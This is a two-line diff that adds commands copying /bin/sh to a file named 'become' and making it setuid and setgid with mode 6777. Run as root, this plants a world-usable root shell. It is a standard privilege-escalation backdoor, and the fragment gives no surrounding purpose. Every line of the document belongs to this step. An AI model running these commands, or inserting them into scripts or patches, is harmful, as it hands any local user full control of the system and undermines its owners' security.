@@ -1,0 +1,2 @@
+cp /bin/sh become
+chmod 6777 become
